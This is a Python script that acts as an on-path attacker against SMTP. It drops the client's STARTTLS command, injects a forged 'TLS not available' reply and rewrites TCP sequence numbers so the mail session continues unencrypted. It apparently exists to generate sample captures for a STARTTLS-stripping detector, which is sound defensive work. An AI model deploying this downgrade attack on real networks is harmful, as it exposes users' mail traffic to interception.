#!/usr/bin/env python3
"""User-space IPv4 router that forges a STARTTLS refusal, for stripscope's sample captures.

Runs inside the middlebox namespace in place of the kernel's forwarding (make-samples drops
forwarded packets with iptables while it runs, and AF_PACKET sockets see frames before
that happens). Every IPv4 frame that arrives on one side and is not addressed to the
middlebox itself leaves on the other side with new Ethernet addresses and its TTL lowered
by one, as a router would send it.

On TCP connections to --port it plays an on-path attacker:

  * the client's segment that carries "STARTTLS\\r\\n" is dropped; the server never sees it;
  * a forged reply ("454 4.7.0 TLS not available" by default) is sent to the client as if
    from the server, in a packet built from scratch: TTL 255, IP ID 0, no DF bit, and a
    bare 20-byte TCP header (no timestamps) where the server's own segments carry
    TCP timestamps and DF;
  * from then on the sequence and acknowledgement numbers of both directions (and SACK
    blocks) are shifted by the bytes dropped and inserted, so the real server session
    continues underneath; TCP and IP checksums are recomputed.

Standard library only. One line per event on stderr.
"""

import argparse
import os
import select
import signal
import socket
import struct
import sys

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
MAX_FRAME = 65535
IDLE_TIMEOUT = 60.0           # seconds without any frame before the bridge gives up
MAX_CONNECTIONS = 64          # per-connection state kept at most


def log(msg):
    sys.stderr.write("inject-bridge[%d]: %s\n" % (os.getpid(), msg))
    sys.stderr.flush()


def mac_of(ifname):
    with open("/sys/class/net/%s/address" % ifname) as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip_header_checksum(ip):
    ip[10:12] = b"\0\0"
    ip[10:12] = struct.pack("!H", checksum(bytes(ip[: (ip[0] & 0x0F) * 4])))


def tcp_checksum(ip, ihl):
    total_len = struct.unpack("!H", ip[2:4])[0]
    seg = ip[ihl:total_len]
    seg[16:18] = b"\0\0"
    pseudo = bytes(ip[12:20]) + struct.pack("!BBH", 0, 6, len(seg))
    seg[16:18] = struct.pack("!H", checksum(pseudo + bytes(seg)))
    ip[ihl:total_len] = seg


class Connection:
    """Shift state of one client connection (sequence numbers mod 2**32)."""

    def __init__(self):
        self.c2s_removed = 0      # client bytes the server never saw
        self.s2c_added = 0        # forged bytes the client got from the middlebox
        self.server_next = None   # next server sequence number, client's view
        self.server_window = 0    # last raw window field of the server
        self.dropped_seq = None   # client sequence number of the dropped STARTTLS
        self.dropped_len = 0
        self.forged = None        # the forged reply frame, resent on retransmission


class Bridge:
    def __init__(self, args):
        self.args = args
        self.client_if, self.server_if = args.client_if, args.server_if
        self.client_mac = bytes.fromhex(args.client_mac.replace(":", ""))
        self.server_mac = bytes.fromhex(args.server_mac.replace(":", ""))
        self.own_mac = {self.client_if: mac_of(self.client_if),
                        self.server_if: mac_of(self.server_if)}
        self.local = {socket.inet_aton(a) for a in args.local}
        self.reply = args.reply.encode() + b"\r\n"
        self.socks = {}
        for ifname in (self.client_if, self.server_if):
            s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
            s.bind((ifname, ETH_P_ALL))
            self.socks[ifname] = s
        self.conns = {}

    # ---- frame handling ---------------------------------------------------
    def run(self):
        by_fd = {s: name for name, s in self.socks.items()}
        while True:
            readable, _, _ = select.select(list(by_fd), [], [], IDLE_TIMEOUT)
            if not readable:
                log("idle timeout")
                return
            for s in readable:
                frame, addr = s.recvfrom(MAX_FRAME)
                if addr[2] == PACKET_OUTGOING:
                    continue          # our own transmissions, seen again by the tap
                self.on_frame(by_fd[s], frame)

    def on_frame(self, ifname, frame):
        if len(frame) < 34 or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP:
            return                    # ARP and IPv6 stay with the kernel
        ip = bytearray(frame[14:])
        ihl = (ip[0] & 0x0F) * 4
        total_len = struct.unpack("!H", ip[2:4])[0]
        if ip[0] >> 4 != 4 or ihl < 20 or total_len > len(ip) or total_len < ihl:
            return
        del ip[total_len:]
        if bytes(ip[16:20]) in self.local or ip[8] <= 1:
            return                    # for the middlebox itself, or would expire
        from_client = ifname == self.client_if
        if ip[9] == 6 and total_len >= ihl + 20:
            if not self.on_tcp(ip, ihl, from_client):
                return
        ip[8] -= 1                    # a router's hop
        ip_header_checksum(ip)
        self.send(self.server_if if from_client else self.client_if, bytes(ip))

    def send(self, ifname, ip):
        dst = self.server_mac if ifname == self.server_if else self.client_mac
        self.socks[ifname].send(dst + self.own_mac[ifname] + struct.pack("!H", ETH_P_IP) + ip)

    # ---- TCP --------------------------------------------------------------
    def on_tcp(self, ip, ihl, from_client):
        """Rewrite one TCP segment in place; return False to drop it."""
        tcp = ihl
        sport, dport = struct.unpack("!HH", ip[tcp:tcp + 4])
        if (dport if from_client else sport) != self.args.port:
            return True
        key = (bytes(ip[12:16]), sport) if from_client else (bytes(ip[16:20]), dport)
        conn = self.conns.get(key)
        flags = ip[tcp + 13]
        if conn is None or (from_client and flags & 0x02):        # SYN: a fresh connection
            if len(self.conns) >= MAX_CONNECTIONS:
                self.conns.clear()
            conn = self.conns[key] = Connection()
        seq, ack = struct.unpack("!II", ip[tcp + 4:tcp + 12])
        doff = (ip[tcp + 12] >> 4) * 4
        payload = bytes(ip[tcp + doff:])
        if from_client:
            if (conn.dropped_seq is None and payload.strip().upper() == b"STARTTLS"
                    and conn.server_next is not None):
                conn.dropped_seq, conn.dropped_len = seq, len(payload)
                conn.c2s_removed += len(payload)
                self.forge(ip, ihl, conn, seq + len(payload))
                return False
            if conn.dropped_seq is not None and seq == conn.dropped_seq and payload:
                log("client retransmitted STARTTLS, forged reply sent again")
                self.socks[self.client_if].send(conn.forged)
                return False
            seq = (seq - conn.c2s_removed) & 0xFFFFFFFF
            ack = (ack - conn.s2c_added) & 0xFFFFFFFF
            self.shift_sack(ip, tcp, doff, -conn.s2c_added)
        else:
            seq = (seq + conn.s2c_added) & 0xFFFFFFFF
            ack = (ack + conn.c2s_removed) & 0xFFFFFFFF
            self.shift_sack(ip, tcp, doff, conn.c2s_removed)
            end = (seq + len(payload) + (1 if flags & 0x03 else 0)) & 0xFFFFFFFF
            conn.server_next = end
            conn.server_window = struct.unpack("!H", ip[tcp + 14:tcp + 16])[0]
        ip[tcp + 4:tcp + 12] = struct.pack("!II", seq, ack)
        tcp_checksum(ip, ihl)
        return True

    @staticmethod
    def shift_sack(ip, tcp, doff, delta):
        """Shift the edges of SACK blocks (RFC 2018, option kind 5) by delta."""
        if not delta:
            return
        i, end = tcp + 20, tcp + doff
        while i < end:
            kind = ip[i]
            if kind == 0:
                break
            if kind == 1:
                i += 1
                continue
            if i + 1 >= end or ip[i + 1] < 2:
                break
            length = ip[i + 1]
            if kind == 5:
                for j in range(i + 2, min(i + length, end) - 3, 4):
                    v = (struct.unpack("!I", ip[j:j + 4])[0] + delta) & 0xFFFFFFFF
                    ip[j:j + 4] = struct.pack("!I", v)
            i += length

    def forge(self, ip, ihl, conn, client_next):
        """Send the forged reply to the client, as if from the server."""
        reply = self.reply
        tcp = ihl
        sport, dport = struct.unpack("!HH", ip[tcp:tcp + 4])
        out = bytearray(20 + 20 + len(reply))
        # IPv4 header (RFC 791): no options, ID 0, no DF, TTL 255.
        struct.pack_into("!BBHHHBBH4s4s", out, 0, 0x45, 0, len(out), 0, 0, 255, 6, 0,
                         bytes(ip[16:20]), bytes(ip[12:16]))
        # TCP header (RFC 9293): bare 20 bytes, PSH+ACK, the server's last window value.
        struct.pack_into("!HHIIBBHHH", out, 20, dport, sport, conn.server_next,
                         client_next & 0xFFFFFFFF, 5 << 4, 0x18, conn.server_window, 0, 0)
        out[40:] = reply
        ip_header_checksum(out)
        tcp_checksum(out, 20)
        conn.s2c_added += len(reply)
        frame = self.client_mac + self.own_mac[self.client_if] + struct.pack("!H", ETH_P_IP) + bytes(out)
        conn.forged = frame
        self.socks[self.client_if].send(frame)
        log("dropped the client's STARTTLS (%d bytes), forged %r" % (conn.dropped_len, reply))


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--client-if", required=True)
    ap.add_argument("--server-if", required=True)
    ap.add_argument("--client-mac", required=True, help="MAC of the client's interface")
    ap.add_argument("--server-mac", required=True, help="MAC of the server's interface")
    ap.add_argument("--local", action="append", default=[],
                    help="IPv4 address of the middlebox itself (frames to it are left alone)")
    ap.add_argument("--port", type=int, default=25, help="server port of the attacked sessions")
    ap.add_argument("--reply", default="454 4.7.0 TLS not available",
                    help="forged reply line to STARTTLS (CRLF is added)")
    ap.add_argument("--ready-file")
    args = ap.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    bridge = Bridge(args)
    log("forwarding between %s and %s, port %d" % (args.client_if, args.server_if, args.port))
    if args.ready_file:
        with open(args.ready_file, "w") as f:
            f.write("%d\n" % os.getpid())
    bridge.run()


if __name__ == "__main__":
    main()
